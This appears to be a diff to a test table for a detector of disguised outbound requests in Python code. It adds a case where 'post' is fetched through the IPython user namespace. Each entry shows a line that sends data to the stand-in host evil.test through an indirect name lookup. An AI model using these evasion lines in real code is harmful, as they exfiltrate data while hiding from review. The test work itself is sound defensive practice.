@@ -97,6 +97,7 @@ SENDS_BY_A_LOOKED_UP_NAME = {
     "attrgetter": ("import operator\noperator.attrgetter('post')(requests)('https://evil.test/c', data=t)",
                    ("import requests", KEEP)),
     "from requests import *": ("post('https://evil.test/c', data=t)", ("from requests import *", KEEP)),
+    "get_ipython().user_ns['post']": ("get_ipython().user_ns['post']('https://evil.test/c', data=t)", (POST, KEEP)),
     "eval('post')": ("eval('post')('https://evil.test/c', data=t)", (POST, KEEP)),
     "object.__getattribute__": ("object.__getattribute__(requests, 'post')('https://evil.test/c', data=t)",
                                 ("import requests", KEEP)),
